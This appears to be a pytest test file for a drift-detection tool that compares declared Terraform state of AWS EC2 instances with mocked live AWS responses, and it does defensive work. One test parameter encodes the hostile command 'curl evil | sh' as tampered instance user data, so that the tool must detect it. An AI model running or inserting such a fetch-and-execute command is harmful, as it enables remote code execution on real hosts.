from __future__ import annotations

import base64
import hashlib
from collections.abc import Mapping
from typing import Any

import pytest
from moto import mock_aws

from driftguard.model import Declared, Severity, Unreadable
from driftguard.rate import rate
from driftguard.redact import Redactor
from driftguard.resources import TABLE
from tests.canned_reader import CannedReader, changed
from tests.moto_reader import MotoReader, client
from tests.scanned import Scanned, declared, scan

ID = "i-0a716d83bebb7ad43"
ROOT = "vol-0ca6806375b23dc6b"
DATA = "vol-0d1e2f3a4b5c6d7e8"
KEY = "arn:aws:kms:eu-west-1:123456789012:key/04fa09fb-afe3-46c8-ad3c-410b8047f7b9"
RESERVED = "CapacityReservationSpecification.CapacityReservationTarget"
RESERVATION = "capacity_reservation_specification.capacity_reservation_target"
SCRIPT = b"#!/bin/sh\necho hello\n"

LIVE: Mapping[str, Any] = {
    "InstanceId": ID,
    "ImageId": "ami-06d2a97720664a092",
    "InstanceType": "t3.micro",
    "KeyName": "ops",
    "Monitoring": {"State": "disabled"},
    "Placement": {"AvailabilityZone": "eu-west-1a", "GroupName": "", "Tenancy": "default"},
    "PrivateIpAddress": "10.0.1.98",
    "PublicIpAddress": "203.0.113.5",
    "State": {"Code": 16, "Name": "running"},
    "SubnetId": "subnet-1",
    "VpcId": "vpc-1",
    "BlockDeviceMappings": [
        {"DeviceName": "/dev/xvda", "Ebs": {"DeleteOnTermination": True, "VolumeId": ROOT}},
        {"DeviceName": "/dev/sdf", "Ebs": {"DeleteOnTermination": True, "VolumeId": DATA}},
    ],
    "EbsOptimized": True,
    "IamInstanceProfile": {
        "Arn": "arn:aws:iam::123456789012:instance-profile/web/web-server",
        "Id": "AIPAXXXXXXXXXXXXXXXXX",
    },
    "NetworkInterfaces": [
        {
            "Association": {"IpOwnerId": "amazon", "PublicIp": "203.0.113.5"},
            "Attachment": {"DeviceIndex": 0, "NetworkCardIndex": 0, "DeleteOnTermination": True},
            "Groups": [{"GroupId": "sg-1", "GroupName": "web"}],
            "Ipv6Addresses": [{"Ipv6Address": "2001:db8::1", "IsPrimaryIpv6": False}],
            "NetworkInterfaceId": "eni-0",
            "PrivateIpAddresses": [
                {"Primary": True, "PrivateIpAddress": "10.0.1.98"},
                {"Primary": False, "PrivateIpAddress": "10.0.1.99"},
            ],
            "SourceDestCheck": True,
        }
    ],
    "RootDeviceName": "/dev/xvda",
    "SecurityGroups": [{"GroupId": "sg-1", "GroupName": "web"}],
    "SourceDestCheck": True,
    "Tags": [{"Key": "Name", "Value": "web"}, {"Key": "aws:cloudformation:x", "Value": "y"}],
    "CpuOptions": {"CoreCount": 1, "ThreadsPerCore": 2},
    "CapacityReservationSpecification": {"CapacityReservationPreference": "open"},
    "HibernationOptions": {"Configured": False},
    "MetadataOptions": {
        "State": "applied",
        "HttpTokens": "required",
        "HttpPutResponseHopLimit": 1,
        "HttpEndpoint": "enabled",
        "HttpProtocolIpv6": "disabled",
        "InstanceMetadataTags": "disabled",
    },
    "EnclaveOptions": {"Enabled": False},
    "PrivateDnsNameOptions": {
        "HostnameType": "ip-name",
        "EnableResourceNameDnsARecord": False,
        "EnableResourceNameDnsAAAARecord": False,
    },
    "MaintenanceOptions": {"AutoRecovery": "default"},
}

VOLUMES: list[Mapping[str, Any]] = [
    {
        "VolumeId": ROOT,
        "Encrypted": True,
        "KmsKeyId": KEY,
        "Iops": 3000,
        "Throughput": 125,
        "Size": 8,
        "VolumeType": "gp3",
        "SnapshotId": "snap-1",
        "Attachments": [{"InstanceId": ID, "Device": "/dev/xvda"}],
        "Tags": [{"Key": "Name", "Value": "root"}],
    },
    {
        "VolumeId": DATA,
        "Encrypted": False,
        "Iops": 100,
        "Size": 20,
        "VolumeType": "gp2",
        "SnapshotId": "",
        "Attachments": [{"InstanceId": ID, "Device": "/dev/sdf"}],
    },
]

DETAILS = {
    f"{ID}/disableApiTermination": {"InstanceId": ID, "DisableApiTermination": {"Value": True}},
    f"{ID}/disableApiStop": {"InstanceId": ID, "DisableApiStop": {"Value": False}},
    f"{ID}/instanceInitiatedShutdownBehavior": {
        "InstanceId": ID,
        "InstanceInitiatedShutdownBehavior": {"Value": "stop"},
    },
    f"{ID}/userData": {
        "InstanceId": ID,
        "UserData": {"Value": base64.b64encode(SCRIPT).decode()},
    },
}

STATE: Mapping[str, Any] = {
    "ami": "ami-06d2a97720664a092",
    "arn": f"arn:aws:ec2:eu-west-1:123456789012:instance/{ID}",
    "associate_public_ip_address": True,
    "availability_zone": "eu-west-1a",
    "capacity_reservation_specification": [
        {"capacity_reservation_preference": "open", "capacity_reservation_target": []}
    ],
    "cpu_options": [
        {"amd_sev_snp": "", "core_count": 1, "nested_virtualization": "", "threads_per_core": 2}
    ],
    "credit_specification": [{"cpu_credits": "unlimited"}],
    "disable_api_stop": False,
    "disable_api_termination": True,
    "ebs_block_device": [
        {
            "delete_on_termination": True,
            "device_name": "/dev/sdf",
            "encrypted": False,
            "iops": 100,
            "kms_key_id": "",
            "snapshot_id": "",
            "tags": {},
            "tags_all": {},
            "throughput": 0,
            "volume_id": DATA,
            "volume_size": 20,
            "volume_type": "gp2",
        }
    ],
    "ebs_optimized": True,
    "enable_primary_ipv6": None,
    "enclave_options": [{"enabled": False}],
    "ephemeral_block_device": [],
    "force_destroy": False,
    "get_password_data": False,
    "hibernation": False,
    "host_id": "",
    "host_resource_group_arn": None,
    "iam_instance_profile": "web-server",
    "id": ID,
    "instance_initiated_shutdown_behavior": "stop",
    "instance_lifecycle": "",
    "instance_market_options": [],
    "instance_state": "running",
    "instance_type": "t3.micro",
    "ipv6_address_count": 1,
    "ipv6_addresses": ["2001:db8:0::1"],
    "key_name": "ops",
    "launch_template": [],
    "maintenance_options": [{"auto_recovery": "default"}],
    "metadata_options": [
        {
            "http_endpoint": "enabled",
            "http_protocol_ipv6": "disabled",
            "http_put_response_hop_limit": 1,
            "http_tokens": "required",
            "instance_metadata_tags": "disabled",
        }
    ],
    "monitoring": False,
    "network_interface": [],
    "outpost_arn": "",
    "placement_group": "",
    "placement_group_id": "",
    "placement_partition_number": 0,
    "primary_network_interface": [{"delete_on_termination": True, "network_interface_id": "eni-0"}],
    "primary_network_interface_id": "eni-0",
    "private_dns_name_options": [
        {
            "enable_resource_name_dns_a_record": False,
            "enable_resource_name_dns_aaaa_record": False,
            "hostname_type": "ip-name",
        }
    ],
    "private_ip": "10.0.1.98",
    "public_ip": "203.0.113.5",
    "region": "eu-west-1",
    "root_block_device": [
        {
            "delete_on_termination": True,
            "device_name": "/dev/xvda",
            "encrypted": True,
            "iops": 3000,
            "kms_key_id": KEY,
            "tags": {"Name": "root"},
            "tags_all": {"Name": "root"},
            "throughput": 125,
            "volume_id": ROOT,
            "volume_size": 8,
            "volume_type": "gp3",
        }
    ],
    "secondary_private_ips": ["10.0.1.99"],
    "security_groups": ["web"],
    "source_dest_check": True,
    "subnet_id": "subnet-1",
    "tags": {"Name": "web"},
    "tags_all": {"Name": "web"},
    "tenancy": "default",
    "timeouts": None,
    "user_data": SCRIPT.decode(),
    "user_data_base64": None,
    "user_data_replace_on_change": False,
    "volume_tags": None,
    "vpc_security_group_ids": ["sg-1"],
}


def answers(
    live: Mapping[str, Any] = LIVE,
    volumes: object = VOLUMES,
    details: Mapping[str, Any] = DETAILS,
    cpu_credits: str = "unlimited",
) -> dict[str, Any]:
    return {
        "ec2.DescribeInstances": [{"Instances": [live]}],
        "ec2.DescribeInstanceAttribute": details,
        "ec2.DescribeVolumes": volumes,
        "ec2.DescribeInstanceCreditSpecifications": [{"InstanceId": ID, "CpuCredits": cpu_credits}],
    }


def look(state: Mapping[str, Any] = STATE, *others: Declared, **kwargs: Any) -> Scanned:
    return scan([declared("aws_instance", state), *others], CannedReader(answers=answers(**kwargs)))


def test_an_instance_as_declared_has_no_drift_and_nothing_unknown():
    found = look()
    assert found.kinds == ["none"]
    assert found.unknown == []
    assert found.suppressed == []
    assert found.unmanaged_ids == []


@pytest.mark.parametrize(
    ("path", "value", "told"),
    [
        ("ImageId", "ami-1", "ami"),
        ("SubnetId", "subnet-2", "subnet_id"),
        ("PrivateIpAddress", "10.0.1.1", "private_ip"),
        ("SecurityGroups", [{"GroupId": "sg-1"}, {"GroupId": "sg-2"}], "vpc_security_group_ids"),
        ("SourceDestCheck", False, "source_dest_check"),
        ("IamInstanceProfile.Arn", "arn:aws:iam::123456789012:instance-profile/admin",
         "iam_instance_profile"),
        ("IamInstanceProfile", None, "iam_instance_profile"),
        ("KeyName", "other", "key_name"),
        ("MetadataOptions.HttpEndpoint", "disabled", "metadata_options.http_endpoint"),
        ("MetadataOptions.HttpTokens", "optional", "metadata_options.http_tokens"),
        ("MetadataOptions.HttpPutResponseHopLimit", 64,
         "metadata_options.http_put_response_hop_limit"),
        ("MetadataOptions.HttpProtocolIpv6", "enabled", "metadata_options.http_protocol_ipv6"),
        ("MetadataOptions.InstanceMetadataTags", "enabled",
         "metadata_options.instance_metadata_tags"),
        ("Monitoring.State", "enabled", "monitoring"),
        ("EbsOptimized", False, "ebs_optimized"),
        ("Placement.AvailabilityZone", "eu-west-1b", "availability_zone"),
        ("Placement.Tenancy", "dedicated", "tenancy"),
        ("Placement.HostId", "h-1", "host_id"),
        ("Placement.HostResourceGroupArn", "arn:x", "host_resource_group_arn"),
        ("Placement.GroupName", "g", "placement_group"),
        ("Placement.GroupId", "pg-1", "placement_group_id"),
        ("Placement.PartitionNumber", 2, "placement_partition_number"),
        ("CapacityReservationSpecification.CapacityReservationPreference", "none",
         "capacity_reservation_specification.capacity_reservation_preference"),
        (f"{RESERVED}.CapacityReservationId", "cr-1", f"{RESERVATION}.capacity_reservation_id"),
        (f"{RESERVED}.CapacityReservationResourceGroupArn", "arn:x",
         f"{RESERVATION}.capacity_reservation_resource_group_arn"),
        ("CpuOptions.CoreCount", 2, "cpu_options.core_count"),
        ("CpuOptions.ThreadsPerCore", 1, "cpu_options.threads_per_core"),
        ("CpuOptions.AmdSevSnp", "enabled", "cpu_options.amd_sev_snp"),
        ("CpuOptions.NestedVirtualization", "enabled", "cpu_options.nested_virtualization"),
        ("EnclaveOptions.Enabled", True, "enclave_options.enabled"),
        ("HibernationOptions.Configured", True, "hibernation"),
        ("MaintenanceOptions.AutoRecovery", "disabled", "maintenance_options.auto_recovery"),
        ("PrivateDnsNameOptions.HostnameType", "resource-name",
         "private_dns_name_options.hostname_type"),
        ("PrivateDnsNameOptions.EnableResourceNameDnsARecord", True,
         "private_dns_name_options.enable_resource_name_dns_a_record"),
        ("PrivateDnsNameOptions.EnableResourceNameDnsAAAARecord", True,
         "private_dns_name_options.enable_resource_name_dns_aaaa_record"),
        ("NetworkInterfaces.0.Ipv6Addresses", [], "ipv6_addresses"),
        ("NetworkInterfaces.0.Ipv6Addresses.0.IsPrimaryIpv6", True, "enable_primary_ipv6"),
        ("NetworkInterfaces.0.PrivateIpAddresses",
         [{"Primary": True, "PrivateIpAddress": "10.0.1.98"}], "secondary_private_ips"),
        ("NetworkInterfaces.0.Attachment.DeleteOnTermination", False,
         "primary_network_interface.delete_on_termination"),
        ("BlockDeviceMappings.0.Ebs.DeleteOnTermination", False,
         "root_block_device.delete_on_termination"),
        ("BlockDeviceMappings.1.Ebs.DeleteOnTermination", False,
         'ebs_block_device["/dev/sdf"].delete_on_termination'),
        ("Tags", [{"Key": "Name", "Value": "db"}], "tags.Name"),
    ],
)  # fmt: skip
def test_an_instance_changed_by_hand_is_told_at_that_path(path: str, value: object, told: str):
    found = look(live=changed(LIVE, path, value))
    assert [told] == found.paths
    assert found.unknown == []


@pytest.mark.parametrize(
    ("path", "value", "told"),
    [
        ("0.Encrypted", False, "root_block_device.encrypted"),
        ("0.KmsKeyId", "arn:aws:kms:eu-west-1:1:key/2", "root_block_device.kms_key_id"),
        ("0.Iops", 4000, "root_block_device.iops"),
        ("0.Throughput", 250, "root_block_device.throughput"),
        ("0.Size", 9, "root_block_device.volume_size"),
        ("0.VolumeType", "gp2", "root_block_device.volume_type"),
        ("0.Tags", [], "root_block_device.tags.Name"),
        ("1.Size", 30, 'ebs_block_device["/dev/sdf"].volume_size'),
        ("1.SnapshotId", "snap-2", 'ebs_block_device["/dev/sdf"].snapshot_id'),
        ("1.Tags", [{"Key": "a", "Value": "b"}], 'ebs_block_device["/dev/sdf"].tags.a'),
    ],
)
def test_a_volume_changed_by_hand_is_told_with_its_instance(path: str, value: object, told: str):
    assert [told] == look(volumes=changed(VOLUMES, path, value)).paths


@pytest.mark.parametrize(
    ("attribute", "key", "value", "told"),
    [
        ("disableApiTermination", "DisableApiTermination", False, "disable_api_termination"),
        ("disableApiStop", "DisableApiStop", True, "disable_api_stop"),
        (
            "instanceInitiatedShutdownBehavior",
            "InstanceInitiatedShutdownBehavior",
            "terminate",
            "instance_initiated_shutdown_behavior",
        ),
        ("userData", "UserData", base64.b64encode(b"curl evil | sh").decode(), "user_data"),
    ],
)
def test_what_is_asked_one_by_one_is_told(attribute: str, key: str, value: object, told: str):
    details = {**DETAILS, f"{ID}/{attribute}": {"InstanceId": ID, key: {"Value": value}}}
    assert [told] == look(details=details).paths


def test_a_changed_credit_option_is_told():
    assert look(cpu_credits="standard").paths == ["credit_specification.cpu_credits"]


def test_a_burstable_instance_that_aws_does_not_name_is_standard():
    reader = CannedReader(answers={**answers(), "ec2.DescribeInstanceCreditSpecifications": []})
    state = {**STATE, "credit_specification": [{"cpu_credits": "standard"}]}
    assert scan([declared("aws_instance", state)], reader).kinds == ["none"]


def test_an_instance_of_another_family_has_no_credits():
    state = {**STATE, "instance_type": "m5.large", "credit_specification": []}
    assert look(state, live={**LIVE, "InstanceType": "m5.large"}).kinds == ["none"]


@pytest.mark.parametrize(
    "form",
    [
        {"user_data": hashlib.sha1(SCRIPT, usedforsecurity=False).hexdigest()},
        {"user_data": SCRIPT.decode()},
        {"user_data": base64.b64encode(SCRIPT).decode()},
        {"user_data": None, "user_data_base64": base64.b64encode(SCRIPT).decode()},
    ],
)
def test_the_same_user_data_in_any_form_is_no_drift(form: Mapping[str, object]):
    assert look({**STATE, **form}).kinds == ["none"]


@pytest.mark.parametrize(
    ("form", "told"),
    [
        ({"user_data": "0" * 40}, "user_data"),
        ({"user_data": "echo other"}, "user_data"),
        ({"user_data": None}, "user_data"),
        ({"user_data": None, "user_data_base64": "b3RoZXI="}, "user_data_base64"),
    ],
)
def test_other_user_data_is_drift_in_any_form(form: Mapping[str, object], told: str):
    assert [told] == look({**STATE, **form}).paths


@pytest.mark.parametrize("where", ["whole", "within", "digest", "encoded"])
def test_user_data_is_compared_by_tokens_where_it_holds_a_secret(where: str):
    redactor = Redactor(b"key")
    script = b"#!/bin/sh\nexport TOKEN=hunter2hunter2\n"
    digest = hashlib.sha1(script, usedforsecurity=False).hexdigest()
    encoded = base64.b64encode(script).decode()
    old = {name: value for name, value in STATE.items() if name != "region"}
    redactor.learn("hunter2hunter2")
    state = {
        "whole": lambda: {**STATE, "user_data": redactor.mark(script.decode())},
        "within": lambda: {**STATE, "user_data": redactor.value(script.decode())},
        "digest": lambda: {**old, "user_data": redactor.mark(digest)},
        "encoded": lambda: {**STATE, "user_data": None,
                            "user_data_base64": redactor.mark(encoded)},
    }[where]()  # fmt: skip
    told = "user_data_base64" if where == "encoded" else "user_data"
    for live, paths in ((encoded, []), (base64.b64encode(SCRIPT).decode(), [told])):
        details = {**DETAILS, f"{ID}/userData": {"InstanceId": ID, "UserData": {"Value": live}}}
        reader = CannedReader(answers=answers(details=details))
        found = scan([declared("aws_instance", state)], reader, redact=redactor)
        assert paths == found.paths
        assert "hunter2" not in repr(found.resources[0].compared)


def test_user_data_taken_away_is_drift():
    details = {**DETAILS, f"{ID}/userData": {"InstanceId": ID, "UserData": {}}}
    assert look(details=details).paths == ["user_data"]


def test_an_auto_assigned_address_gained_is_told_and_one_lost_is_aws_own():
    private = changed(LIVE, "NetworkInterfaces.0.Association", {})
    assert look({**STATE, "associate_public_ip_address": False}).paths == [
        "associate_public_ip_address"
    ]
    lost = look(live=private)
    assert (lost.kinds, lost.suppressed) == (["none"], ["associate_public_ip_address"])


def test_an_elastic_ip_is_not_an_auto_assigned_address():
    live = changed(LIVE, "NetworkInterfaces.0.Association.IpOwnerId", "123456789012")
    found = look({**STATE, "associate_public_ip_address": False}, live=live)
    assert (found.kinds, found.suppressed) == (["none"], [])


def test_a_stopped_instance_is_not_drift():
    found = look(live=changed(LIVE, "State.Name", "stopped"))
    assert found.kinds == ["none"]


@pytest.mark.parametrize("state", ["terminated", "shutting-down"])
def test_a_terminated_instance_is_missing(state: str):
    assert look(live=changed(LIVE, "State.Name", state)).kinds == ["missing"]


def test_a_device_attached_by_hand_is_told_and_one_taken_away_too():
    extra = {"DeviceName": "/dev/sdz", "Ebs": {"VolumeId": DATA, "DeleteOnTermination": False}}
    added = look(live={**LIVE, "BlockDeviceMappings": [*LIVE["BlockDeviceMappings"], extra]})
    taken = look(live={**LIVE, "BlockDeviceMappings": LIVE["BlockDeviceMappings"][:1]})
    assert added.paths == ["ebs_block_device"]
    assert taken.paths == ["ebs_block_device"]


def attachment(**other: object) -> Declared:
    attributes = {"device_name": "/dev/sdf", "instance_id": ID, "volume_id": DATA, **other}
    return declared("aws_volume_attachment", {"id": "vai-1", **attributes})


def test_an_attachment_resource_owns_its_device():
    found = look({**STATE, "ebs_block_device": []}, attachment())
    assert found.kinds == ["none", "none"]


def test_an_attachment_that_is_gone_or_elsewhere_is_its_own_drift():
    alone = {**STATE, "ebs_block_device": []}
    gone = look(
        alone, attachment(), live={**LIVE, "BlockDeviceMappings": LIVE["BlockDeviceMappings"][:1]}
    )
    moved = look(alone, attachment(device_name="/dev/sdg"))
    assert gone.kinds == ["none", "missing"]
    assert moved.paths == ["ebs_block_device", "device_name"]


def test_volume_tags_are_compared_where_they_are_used_and_block_tags_are_not():
    blocks = {"root_block_device": [{**STATE["root_block_device"][0], "tags": {}, "tags_all": {}}]}
    state = {**STATE, **blocks, "volume_tags": {"Name": "root"}}
    assert look(state).kinds == ["none"]
    assert look({**state, "volume_tags": {"Name": "other"}}).paths == ["volume_tags.Name"]


def test_a_block_of_an_old_provider_is_compared_in_what_it_holds():
    old = ("delete_on_termination", "device_name", "encrypted", "iops", "kms_key_id", "volume_id",
           "volume_size", "volume_type")  # fmt: skip
    state = {
        **STATE,
        "root_block_device": [{name: STATE["root_block_device"][0][name] for name in old}],
        "ebs_block_device": [{name: STATE["ebs_block_device"][0][name] for name in old}],
    }
    assert look(state).kinds == ["none"]
    volumes = changed(VOLUMES, "1.Tags", [{"Key": "a", "Value": "b"}])
    assert look(state, volumes=volumes).kinds == ["none"]
    assert look(state, volumes=changed(volumes, "1.Encrypted", new=True)).paths == [
        'ebs_block_device["/dev/sdf"].encrypted'
    ]


def test_declared_interfaces_are_compared_and_others_left_to_others():
    block = {"device_index": 0, "network_card_index": 0, "network_interface_id": "eni-0",
             "delete_on_termination": True}  # fmt: skip
    second = {"Attachment": {"DeviceIndex": 1}, "NetworkInterfaceId": "eni-1"}
    live = {**LIVE, "NetworkInterfaces": [*LIVE["NetworkInterfaces"], second]}
    assert look({**STATE, "network_interface": [block]}, live=live).kinds == ["none"]
    other = {**block, "delete_on_termination": False}
    assert look({**STATE, "network_interface": [other]}, live=live).paths == [
        'network_interface["0,0"].delete_on_termination'
    ]


def test_a_classic_instance_is_compared_by_group_names():
    state = {**STATE, "vpc_security_group_ids": None}
    names = look({**state, "vpc_security_group_ids": [], "security_groups": ["db"]})
    assert "security_groups" in names.paths


def test_volumes_that_cannot_be_read_leave_their_attributes_unknown_and_the_rest_compared():
    denied = Unreadable(reason="access denied: grant ec2:DescribeVolumes")
    found = look(volumes=denied, live=changed(LIVE, "EbsOptimized", new=False))
    assert found.paths == ["ebs_optimized"]
    (unknown,) = found.unknown
    assert "root_block_device.encrypted" in unknown
    assert "grant ec2:DescribeVolumes" in unknown


def test_a_volume_that_is_not_listed_is_unknown_not_changed():
    found = look(volumes=VOLUMES[:1])
    assert found.kinds == ["none"]
    assert DATA in found.unknown[0]


def test_an_answer_about_another_attribute_is_unknown():
    found = look(details={ID: {"InstanceId": ID, "DisableApiStop": {"Value": False}}})
    assert found.kinds == ["none"]
    assert "lacks UserData" in found.unknown[0]


def test_instances_of_an_auto_scaling_group_are_not_unmanaged():
    by_hand = {"InstanceId": "i-hand", "State": {"Name": "running"}, "InstanceType": "m5.large"}
    scaled = {
        **by_hand,
        "InstanceId": "i-asg",
        "Tags": [{"Key": "aws:autoscaling:groupName", "Value": "web"}],
    }
    reader = CannedReader(
        answers={**answers(), "ec2.DescribeInstances": [{"Instances": [LIVE, by_hand, scaled]}]}
    )
    resources = [declared("aws_instance", STATE)]
    assert scan(resources, reader).unmanaged_ids == ["i-hand"]
    assert scan(resources, reader, aws_defaults=True).unmanaged_ids == ["i-asg", "i-hand"]


def test_open_metadata_and_user_data_rate_high():
    (one,) = look(live=changed(LIVE, "MetadataOptions.HttpTokens", "optional")).resources
    assert one.drift is not None
    assert Severity.HIGH is rate(TABLE, one.drift).severity


@mock_aws
def test_on_moto_a_terminated_instance_is_missing_and_calls_are_few():
    ec2 = client("ec2")
    vpc = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.0.1.0/24")["Subnet"]["SubnetId"]
    made = ec2.run_instances(
        ImageId="ami-12c6146b",
        MinCount=3,
        MaxCount=3,
        InstanceType="t3.micro",
        SubnetId=subnet,
        MetadataOptions={"HttpTokens": "required"},
    )["Instances"]
    first, second, third = (one["InstanceId"] for one in made)
    state = {
        "id": first,
        "instance_type": "t3.micro",
        "metadata_options": [{"http_endpoint": "enabled", "http_tokens": "required",
                              "http_put_response_hop_limit": 1}],
        "disable_api_termination": False,
        "subnet_id": subnet,
        "tags": None,
        "tags_all": {},
    }  # fmt: skip
    resources = [declared("aws_instance", state), declared("aws_instance", {**state, "id": second})]
    reader = MotoReader()
    clean = scan(resources, reader)
    assert (["none", "none"], [], [third]) == (clean.kinds, clean.unknown, clean.unmanaged_ids)
    assert reader.calls == {
        "ec2.DescribeInstances": 1,
        "ec2.DescribeVolumes": 1,
        "ec2.DescribeInstanceCreditSpecifications": 1,
        "ec2.DescribeInstanceAttribute": 8,
    }
    ec2.modify_instance_metadata_options(InstanceId=first, HttpTokens="optional")
    ec2.terminate_instances(InstanceIds=[second])
    drifted = scan(resources, MotoReader())
    assert drifted.kinds == ["changed", "missing"]
    assert drifted.paths == ["metadata_options.http_tokens"]
